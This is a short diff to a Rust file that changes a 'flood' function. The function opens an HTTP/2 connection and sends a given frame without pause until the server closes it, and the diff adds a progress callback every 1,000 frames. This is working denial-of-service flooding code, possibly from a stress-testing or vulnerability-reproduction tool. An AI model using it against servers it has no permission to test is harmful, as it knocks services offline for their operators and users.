@@ -123,15 +123,17 @@ pub fn encode_prefix(length: usize) -> Vec<u8> {
 }
 
 /// Connects, starts an HTTP/2 connection, and sends `frame` without pause until the server closes the connection.
+/// Calls `on_sent` after each 1,000 frames.
 ///
 /// # Errors
 /// Fails when the server has closed the connection, or if the server can't be reached.
-pub async fn flood(address: &str, frame: &[u8]) -> io::Result<()> {
+pub async fn flood(address: &str, frame: &[u8], on_sent: impl Fn()) -> io::Result<()> {
     let mut io = TcpStream::connect(address).await?;
     io.write_all(PREFACE).await?;
     io.write_all(&SETTINGS).await?;
     let frames = frame.repeat(1_000);
     loop {
         io.write_all(&frames).await?;
+        on_sent();
     }
 }
